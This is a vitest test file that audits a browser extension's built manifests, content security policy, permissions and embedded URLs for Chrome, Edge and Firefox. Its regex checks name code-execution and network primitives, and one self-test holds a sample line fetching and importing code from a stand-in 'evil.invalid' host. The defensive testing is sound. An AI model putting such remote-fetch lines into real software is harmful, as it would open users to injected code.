import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { axeRules } from '../core/axe/axe-rules.ts';
import { studies } from '../core/case-studies/studies-en.ts';
import { rules } from '../core/prompts/rules.ts';
import { recordFigure } from './hostile-figures.ts';

const require = createRequire(import.meta.url);

const root = fileURLToPath(new URL('..', import.meta.url));

const folderOf = (name: string): string => `${root}.output/${name}`;

interface Manifest {
  readonly [key: string]: unknown;
  readonly permissions: readonly string[];
}

const manifestOf = (name: string): Manifest =>
  JSON.parse(readFileSync(`${folderOf(name)}/manifest.json`, 'utf8')) as Manifest;

/** All that a manifest may say. What is not here could let the extension see more, or a page see the extension. */
const known = [
  'action',
  'background',
  'browser_specific_settings',
  'commands',
  'content_security_policy',
  'default_locale',
  'description',
  'icons',
  'manifest_version',
  'minimum_chrome_version',
  'name',
  'permissions',
  'side_panel',
  'sidebar_action',
  'version',
];

const policy =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; " +
  "base-uri 'none'; form-action 'none'; frame-ancestors 'none'";

/** axe-core as its makers ship it. It holds code that makes code, for templates and settings of its own that we never use. */
const axeFile = 'axe-core/axe.min.js';

/** Every file of a build that a browser reads as code, style or page, with its text. */
const filesOf = (name: string): readonly (readonly [path: string, text: string])[] =>
  readdirSync(folderOf(name), { recursive: true, encoding: 'utf8' })
    .map((path) => path.replaceAll('\\', '/'))
    .filter((path) => /\.(js|css|html|json)$/.test(path) && path !== axeFile)
    .map((path) => [path, readFileSync(`${folderOf(name)}/${path}`, 'utf8')]);

/** The permissions that the table in the listing explains. */
const documented = Array.from(
  readFileSync(`${root}extension/store-listing/permissions.md`, 'utf8').matchAll(/^\| `(\w+)`/gm),
  ([, name]) => name!,
);

const common = ['activeTab', 'scripting', 'storage', 'unlimitedStorage'];

describe.each([
  ['chrome-mv3', [...common, 'sidePanel']],
  ['edge-mv3', [...common, 'sidePanel']],
  ['firefox-mv3', common],
])('the extension in %s', (name, permissions) => {
  test('asks for what the listing explains, and nothing more', () => {
    const manifest = manifestOf(name);
    expect(manifest.permissions).toEqual(permissions);
    expect(permissions.filter((each) => !documented.includes(each))).toEqual([]);
    expect(Object.keys(manifest).filter((key) => !known.includes(key))).toEqual([]);
    recordFigure('permissions of the extension that nobody explains', permissions.length, 0);
  });

  test('lets its own pages load nothing but themselves', () => {
    expect(manifestOf(name)['content_security_policy']).toEqual({ extension_pages: policy });
    const pages = filesOf(name).filter(([path]) => path.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(1);
    for (const [path, text] of pages) {
      const loaded = Array.from(text.matchAll(/\b(?:src|href)="([^"]*)"/g), ([, address]) => address!);
      expect(loaded.length, path).toBeGreaterThan(0);
      expect(
        loaded.filter((address) => !address.startsWith('/')),
        path,
      ).toEqual([]);
      expect(text, path).not.toMatch(/<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=/);
    }
  });

  test('runs no code from elsewhere, makes none, and has no means to fetch', () => {
    const scripts = filesOf(name).filter(([path]) => path.endsWith('.js'));
    expect(scripts.length).toBeGreaterThan(3);
    for (const [path, code] of scripts) {
      expect(code, path).not.toMatch(/\beval\s*\(|\bFunction\s*\(\s*["'`]|new Function\b|importScripts/);
      expect(code, path).not.toMatch(
        /\bset(?:Timeout|Interval)\(\s*["'`]|document\.write|insertAdjacentHTML/,
      );
      expect(code, path).not.toMatch(/\bimport\(\s*["'`](?![./])/);
      expect(code, path).not.toMatch(
        /\bfetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|RTCPeerConnection|\bnew (?:Worker|SharedWorker|Image)\b/,
      );
    }
    recordFigure('scripts of the extension that could fetch or make code', scripts.length, 0);
  });

  test('holds axe-core unchanged, with its licences, and loads it nowhere by itself', () => {
    const folder = `${folderOf(name)}/axe-core`;
    expect(readdirSync(folder).toSorted()).toEqual(['LICENSE', 'LICENSE-3RD-PARTY.txt', 'axe.min.js']);
    for (const file of readdirSync(folder)) {
      expect(readFileSync(`${folder}/${file}`)).toEqual(readFileSync(require.resolve(`axe-core/${file}`)));
    }
    const manifest = readFileSync(`${folderOf(name)}/manifest.json`, 'utf8');
    const pages = ['sidepanel.html', 'welcome.html'].map((page) =>
      readFileSync(`${folderOf(name)}/${page}`, 'utf8'),
    );
    expect([manifest, ...pages].join()).not.toContain('axe');
  });

  test('knows no address but the sources of rules and cases, which a person may open', () => {
    const sources = [
      ...[...rules, ...axeRules].map(({ source }) => source),
      ...studies.flatMap((study) => study.sources.map(({ url }) => url)),
    ];
    const hosts = new Set(sources.map((source) => new URL(source).host));
    // The names of the languages of markup are written as addresses; nobody opens them.
    const isName = (address: string) => /^http:\/\/www\.w3\.org\/(1999|2000|1998)\//.test(address);
    const found = filesOf(name).flatMap(([path, text]) =>
      Array.from(text.matchAll(/\b(?:https?|wss?|ftp):\/\/[a-z0-9][^\s"'`<>\\)}]*/gi), ([address]) => ({
        path,
        address,
      })),
    );
    expect(found.length).toBeGreaterThan(10);
    const strange = found.filter(
      ({ address }) => !isName(address) && !(URL.canParse(address) && hosts.has(new URL(address).host)),
    );
    expect(strange).toEqual([]);
    recordFigure('addresses in the extension that nobody explains', found.length, 0);
  });

  test('puts no schema library into pages', () => {
    for (const script of ['overlay.js', 'axe-check.js']) {
      expect(readFileSync(`${folderOf(name)}/${script}`, 'utf8')).not.toMatch(/safeParse|ZodError|_zod/);
    }
  });
});

test('the patterns above do see what they look for', () => {
  const naive =
    'fetch("https://evil.invalid/x");new Function("return 1");import("https://evil.invalid/y.js")';
  expect(naive).toMatch(/\bfetch\s*\(/);
  expect(naive).toMatch(/new Function\b/);
  expect(naive).toMatch(/\bimport\(\s*["'`](?![./])/);
});

test('Firefox is told that nothing is collected', () => {
  expect(manifestOf('firefox-mv3')['browser_specific_settings']).toMatchObject({
    gecko: { strict_min_version: '140.0', data_collection_permissions: { required: ['none'] } },
  });
});

test(
  'Mozilla’s own check finds no error, and warns of nothing but lit and axe-core',
  { timeout: 120_000 },
  () => {
    const { stdout, stderr } = spawnSync(
      'web-ext',
      ['lint', '-s', folderOf('firefox-mv3'), '--output', 'json'],
      {
        encoding: 'utf8',
        shell: process.platform === 'win32',
      },
    );
    const found = JSON.parse(
      stdout || `{"errors":[{"message":${JSON.stringify(stderr)}}],"warnings":[]}`,
    ) as Record<'errors' | 'warnings', { code: string; message: string; file?: string }[]>;
    expect(found.errors).toEqual([]);
    // lit sets innerHTML of its own templates, from constant text: once in the pages, once in the overlay.
    const ours = found.warnings.filter(({ file }) => file !== axeFile);
    expect(ours.map(({ code, message }) => `${code}: ${message}`)).toEqual(
      Array.from({ length: 2 }, () => 'UNSAFE_VAR_ASSIGNMENT: Unsafe assignment to innerHTML'),
    );
  },
);
